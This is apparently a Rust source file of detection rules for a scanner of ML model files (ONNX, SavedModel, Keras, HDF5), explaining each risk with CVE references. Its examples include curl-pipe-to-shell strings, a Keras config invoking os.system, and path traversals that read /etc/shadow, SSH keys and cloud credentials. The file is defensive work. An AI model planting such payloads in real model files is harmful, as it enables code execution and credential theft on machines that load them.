//! Rules raised by the graphs family (ONNX, SavedModel, Keras, HDF5).

use crate::rule::Rule;
use crate::severity::Severity;

/// The model is not valid protobuf, or not a valid `ModelProto`.
pub static ONNX_MALFORMED: Rule = Rule {
    id: "onnx-malformed",
    severity: Severity::Medium,
    summary: "The ONNX model is not a well-formed ModelProto, so part of it was not analysed.",
    docs: r#"
## Why it matters
A model that does not parse cannot be vouched for: runtimes with lenient parsers may
still load a prefix of it, and a parser differential between the scanner and the
runtime is a classic way to hide content.

## What to do
Re-export the model with the official `onnx` package and check it with
`onnx.checker.check_model`.
"#,
};

/// An initializer's external data location escapes the model's folder.
pub static ONNX_EXTERNAL_DATA_PATH: Rule = Rule {
    id: "onnx-external-data-path",
    severity: Severity::High,
    summary: "A tensor's external_data location is absolute or climbs out of the model's folder.",
    docs: r#"
## Why it matters
ONNX tensors may keep their bytes in a separate file named by the `location` entry of
`external_data`, resolved relative to the model's folder. A location such as
`../../etc/passwd` or `/home/user/.ssh/id_rsa` makes the runtime read an arbitrary
file of the machine that loads the model and treat it as weights (CVE-2022-25882,
CVE-2024-5187 for the matching write path in `onnx.hub`). Outputs computed from
those weights can leak the file's content.

## Example
An initializer with `data_location: EXTERNAL` and
`external_data { key: "location" value: "../../../../etc/shadow" }`.

## What to do
Do not load the model. Legitimate models name plain files next to the model
(`model.onnx.data`, `weights.bin`).

## References
- ONNX external data: https://onnx.ai/onnx/repo-docs/ExternalData.html
- CVE-2022-25882 (directory traversal in external data)
"#,
};

/// A node uses an operator from a non-standard domain.
pub static ONNX_CUSTOM_OP_DOMAIN: Rule = Rule {
    id: "onnx-custom-op-domain",
    severity: Severity::Medium,
    summary: "The model uses operators outside the standard ONNX domains; running it needs custom operator code.",
    docs: r#"
## Why it matters
Standard runtimes implement the `ai.onnx` (empty domain), `ai.onnx.ml` and training
domains. Any other domain is a custom operator: the runtime needs a native library
registered for it (`SessionOptions.register_custom_ops_library`), and that library
runs with the full rights of the process. A model that asks for custom ops asks you
to install and trust code from its author. `com.microsoft` contrib operators ship
with ONNX Runtime itself and are reported at low severity.

## Example
A node with `domain: "com.example.ops"` and `op_type: "Decrypt"`.

## What to do
Find out which library implements the domain and where it comes from; only load
the model with libraries you already trust.
"#,
};

/// Metadata or doc strings hold code, pickles or terminal escapes.
pub static ONNX_SUSPICIOUS_METADATA: Rule = Rule {
    id: "onnx-suspicious-metadata",
    severity: Severity::Medium,
    summary: "Model metadata holds code, a serialized pickle or terminal escape sequences.",
    docs: r#"
## Why it matters
`metadata_props` and `doc_string` are free text that tools display and that
pipelines sometimes interpret (a preprocessing snippet, a pickled tokenizer). Code,
pickles or shell commands there are a payload waiting for a careless consumer;
ANSI escape sequences rewrite what a terminal shows.

## Example
`metadata_props { key: "preprocess" value: "__import__('os').system('curl x|sh')" }`

## What to do
Read the value. Never `eval`, `exec` or unpickle model metadata.
"#,
};

/// `saved_model.pb` is not a well-formed `SavedModel`.
pub static SAVEDMODEL_MALFORMED: Rule = Rule {
    id: "savedmodel-malformed",
    severity: Severity::Medium,
    summary: "The SavedModel protobuf is malformed, so part of it was not analysed.",
    docs: r#"
## Why it matters
TensorFlow refuses most malformed graphs, but a scanner that cannot read part of a
graph cannot vouch for the operations in it.

## What to do
Re-export the model with TensorFlow and check that `saved_model_cli show --all` reads it.
"#,
};

/// A graph node calls back into the Python interpreter.
pub static SAVEDMODEL_PYTHON_OP: Rule = Rule {
    id: "savedmodel-python-op",
    severity: Severity::High,
    summary: "The graph calls a Python function (PyFunc, EagerPyFunc): running it runs Python code of the loading process.",
    docs: r#"
## Why it matters
`tf.py_function` and `tf.numpy_function` become `EagerPyFunc`, `PyFunc` or
`PyFuncStateless` nodes that call a Python callable registered under a token in the
process that runs the graph. The callable is not in the file, so the model either
fails to run or relies on code its author expects you to import first — the usual
way to smuggle arbitrary Python into a "graph-only" format.

## Example
A node `op: "EagerPyFunc"` with `attr { key: "token" value { s: "pyfunc_0" } }`.

## What to do
Find the Python code the model expects. Prefer models whose graphs use only
TensorFlow operations.

## References
- https://www.tensorflow.org/api_docs/python/tf/py_function
"#,
};

/// A graph node reads or writes files.
pub static SAVEDMODEL_FILE_OP: Rule = Rule {
    id: "savedmodel-file-op",
    severity: Severity::High,
    summary: "The graph reads or writes files outside the checkpoint mechanism (ReadFile, WriteFile, MatchingFiles, readers, summary writers, debug dumps).",
    docs: r#"
## Why it matters
Serving a SavedModel runs its graph. Operations such as `ReadFile` and `WriteFile` do
file I/O with the rights of the serving process: a model can read `~/.aws/credentials`
into an output tensor, list directories with `MatchingFiles`, or plant files with
`WriteFile`. Record readers and dataset ops (`TFRecordReader`, `TextLineDataset`,
`CSVDataset`, ...), summary writers, `PrintV2` to a `file://` stream and debug ops
with `file://` URLs are reported at lower severity unless they name a path outside
the model.

The ops every checkpoint uses (`SaveV2`, `RestoreV2`, `MergeV2Checkpoints`,
`ShardedFilename`, `ShardedFilespec`, `StringJoin`, legacy `Restore`/`RestoreSlice`)
are not reported. Legacy `Save`/`SaveSlices` are reported only when their file name
is a constant absolute path or climbs out with `..`.

## Example
A node `op: "ReadFile"` whose `filename` input is a `Const` holding `/etc/passwd`.

## What to do
Know why the model touches files before serving it; sandbox the server's file system.

## References
- "Weaponizing ML models" (TensorFlow graph ops abuse), HiddenLayer research on SavedModel.
"#,
};

/// A graph node talks to the network.
pub static SAVEDMODEL_NETWORK_OP: Rule = Rule {
    id: "savedmodel-network-op",
    severity: Severity::High,
    summary: "The graph reaches the network (RPC ops, debug ops streaming to grpc:// URLs).",
    docs: r#"
## Why it matters
RPC operations (`Rpc`, `TryRpc`, `RpcClient`, `RpcCall`, ...) and debug ops with
`grpc://` `debug_urls` send tensors to a remote address when the graph runs — a
model can exfiltrate its inputs.

## What to do
Do not serve the model with network access; find out why it calls out.
"#,
};

/// A `Lambda` layer or `__lambda__` object carries Python bytecode.
pub static KERAS_LAMBDA_BYTECODE: Rule = Rule {
    id: "keras-lambda-bytecode",
    severity: Severity::Critical,
    summary: "The Keras configuration holds marshalled Python bytecode (a Lambda layer or lambda function) that runs when the model is loaded or called.",
    docs: r#"
## Why it matters
Keras serialises a Python `lambda` by `marshal`-ing its code object and storing it in
base64 in the configuration (`Lambda` layers, and `{"class_name": "__lambda__"}` for
lambdas used as activations or losses). Loading the model rebuilds the function from
that bytecode: whoever wrote the file chooses the code. Keras 3 refuses it while
`safe_mode=True` (the default of `keras.saving.load_model`), but `safe_mode=False`,
`keras.config.enable_unsafe_deserialization()`, tf.keras 2 and legacy H5 loading run
it (CVE-2024-3660).

The string is read as Keras's `func_load` reads it: base64 decoded like CPython's
non-strict `binascii.a2b_base64` (characters outside the alphabet dropped, the first
complete padding ends the input), and a string that is not ASCII or not base64 taken
as raw marshal data (`raw_unicode_escape`), which Keras then unmarshals too.

## Example
`{"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__",
"config": {"value": ["4wEAAAAAAAAA...", null, null]}}}}`

## What to do
Do not load the model with unsafe deserialisation. Ask for a model without Lambda
layers (a subclassed layer registered in code you review), or re-create the lambda
from its source.

## References
- https://keras.io/api/models/model_saving_apis/model_saving_and_loading/ (`safe_mode`)
- CVE-2024-3660 (arbitrary code injection through Lambda layers)
"#,
};

/// A `Lambda` layer that names a function instead of carrying bytecode.
pub static KERAS_LAMBDA_LAYER: Rule = Rule {
    id: "keras-lambda-layer",
    severity: Severity::High,
    summary: "The model has a Lambda layer that runs a Python function named by the configuration.",
    docs: r#"
## Why it matters
A `Lambda` layer runs an arbitrary Python callable. When it is not stored as
bytecode, the configuration names the function (and its module), which Keras looks up
when the model is loaded: the model runs whatever that name resolves to in your
environment.

## What to do
Check which function the layer names and where it comes from.
"#,
};

/// A `module` entry outside Keras and TensorFlow.
pub static KERAS_MODULE_IMPORT: Rule = Rule {
    id: "keras-module-import",
    severity: Severity::High,
    summary: "The Keras configuration names a module outside Keras and TensorFlow; loading imports it and calls into it.",
    docs: r#"
## Why it matters
Keras 3 configurations record each object's `module`; deserialisation imports that
module and looks the `class_name` up in it. A module such as `os`, `subprocess` or
`builtins` lets a configuration call `os.system` or `eval` during `load_model`, even
with `safe_mode=True` in Keras before 3.9 (CVE-2025-1550). Modules of other packages
are reported at high severity: loading needs them installed and runs their code.

## Example
`{"module": "os", "class_name": "system", "config": "curl evil | sh"}`

## What to do
Do not load the model with a Keras older than 3.9; review every module it names.

## References
- CVE-2025-1550 (arbitrary module import in `Model.load_model`)
"#,
};

/// A custom (registered) object that needs the author's code.
pub static KERAS_CUSTOM_OBJECT: Rule = Rule {
    id: "keras-custom-object",
    severity: Severity::Medium,
    summary: "The model uses custom Keras objects: loading it needs code from its author.",
    docs: r#"
## Why it matters
Custom layers, losses and metrics are registered with
`keras.saving.register_keras_serializable` and serialised as `"package>Name"`. The
model only loads if you import the author's package or pass `custom_objects`, which
means running their code with the model's configuration as input.

## What to do
Review the package that defines the custom objects before installing it.
"#,
};

/// The configuration is not valid JSON (or not where Keras looks for it).
pub static KERAS_MALFORMED_CONFIG: Rule = Rule {
    id: "keras-malformed-config",
    severity: Severity::Medium,
    summary: "The Keras configuration is not valid JSON or lacks what Keras expects, so it was not analysed.",
    docs: r#"
## Why it matters
A configuration the scanner cannot read cannot be vouched for, and a parser
differential (duplicate keys, invalid UTF-8) can hide a layer from one reader while
another loads it.

Keras reads configurations with Python's `json`, and modelvet reads them the same way:
UTF-8, UTF-16 and UTF-32 documents, `NaN` and `Infinity`, the last of duplicate keys,
and nesting as deep as Python goes (9,998 levels in CPython 3.13; modelvet reads 20,000).
A configuration nested deeper than modelvet reads, or with more values than
`graphs.max_json_nodes`, may still load in Python: it is reported at **high** severity,
because a Lambda layer could sit anywhere in it. Text that is not JSON at all is
medium: Keras fails to load it too.

## What to do
Re-save the model with Keras and scan it again. Do not load a model whose
configuration was reported at high severity.
"#,
};

/// A built-in Keras object that reads files, loads models or downloads while
/// the model is loaded.
pub static KERAS_LOAD_TIME_RESOURCE: Rule = Rule {
    id: "keras-load-time-resource",
    severity: Severity::High,
    summary: "A built-in Keras object in the configuration reads a file, loads an external model or fetches a URL while the model loads.",
    docs: r#"
## Why it matters
Being part of Keras does not make an object harmless to deserialise. Some built-in
layers and utilities act on their arguments as soon as they are rebuilt from the
configuration:

- `StringLookup`, `IntegerLookup` and `TextVectorization` read a `vocabulary` given as a
  string through `tf.io.gfile`, which opens local paths and remote URLs (`gs://`,
  `s3://`, `hdfs://`, `http(s)://` with the matching file systems): any file readable by
  the loading process, or a request to any server (CVE-2025-12058).
- `TFSMLayer` loads the SavedModel at its `filepath` and runs its graph when called: a
  model the scan never saw.
- `TorchModuleWrapper` unpickles its `module` with `torch.load(weights_only=False)`.
- Functions such as `keras.utils.get_file` (downloads and writes files),
  `keras.config.enable_unsafe_deserialization` (switches safe mode off for what follows),
  `keras.models.load_model` and the `*_dataset_from_directory` readers act when the
  configuration names them.
- Any argument named `filepath`, `path`, `url`, `origin`, `fname` or `cache_dir` names
  something outside the model archive.

Keras 3.12 and later refuse file vocabularies, `TFSMLayer` and `TorchModuleWrapper`
while `safe_mode=True`, and 3.11 refuses the functions above; older Keras, tf.keras 2,
`safe_mode=False` and `keras.config.enable_unsafe_deserialization()` do not. URLs,
external SavedModels, pickled modules and these functions are critical; local file
paths are high.

## Example
`{"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary":
"/home/user/.ssh/id_rsa"}}`

## What to do
Do not load the model with `safe_mode=False` or an older Keras. Ask for a model whose
vocabulary is stored inline (a list in the configuration, or the `assets/` of the
`.keras` archive) and whose layers are all inside the archive.

## References
- CVE-2025-12058 (Keras file read and SSRF through preprocessing vocabularies)
- https://keras.io/api/models/model_saving_apis/model_saving_and_loading/ (`safe_mode`)
"#,
};

/// The HDF5 structures could not be read.
pub static HDF5_MALFORMED: Rule = Rule {
    id: "hdf5-malformed",
    severity: Severity::Medium,
    summary: "The HDF5 file's superblock, object headers or attributes are malformed, so its attributes were not all read.",
    docs: r#"
## Why it matters
Keras H5 models keep their architecture (including Lambda layers) in the root
group's `model_config` attribute. A file whose structures do not parse cannot be
vouched for: libhdf5 may still read what the scanner could not.

## What to do
Re-save the model with h5py or Keras and scan it again.
"#,
};

/// A link in the file points into another file.
pub static HDF5_EXTERNAL_LINK: Rule = Rule {
    id: "hdf5-external-link",
    severity: Severity::High,
    summary: "The HDF5 file has an external link: opening it makes h5py open another file of the loading machine.",
    docs: r#"
## Why it matters
HDF5 external links name an object in another file. h5py and libhdf5 follow them
transparently, so a Keras loader reading `model_weights/dense/bias` may in fact open
`../../secrets.h5` or any HDF5 file the attacker can guess the path of, and weights
computed from it leak into outputs. A model file has no reason to reach outside itself.

## Example
`g["bias"] = h5py.ExternalLink("../../../../etc/passwd", "/")`

## What to do
Do not load the model; ask for a self-contained file (`h5py` `copy` with
`expand_external=True` resolves the links on the producer's side).
"#,
};

/// A dataset's bytes are read from another file.
pub static HDF5_EXTERNAL_STORAGE: Rule = Rule {
    id: "hdf5-external-storage",
    severity: Severity::High,
    summary: "A dataset of the HDF5 file keeps its bytes in external files, which readers open on the loading machine.",
    docs: r#"
## Why it matters
The External Data Files message makes libhdf5 read a dataset's raw bytes from files
named in the model, relative to the working directory or absolute. Loading the
weights then reads, for example, `/etc/hostname` or a private key into a tensor. It
is reported at medium severity when the names stay inside the model's folder.

## Example
`create_dataset("kernel", shape=(4,), dtype="u1", external=[("/etc/hostname", 0, 4)])`

## What to do
Do not load the model; ask for a file whose datasets are stored inside it.
"#,
};
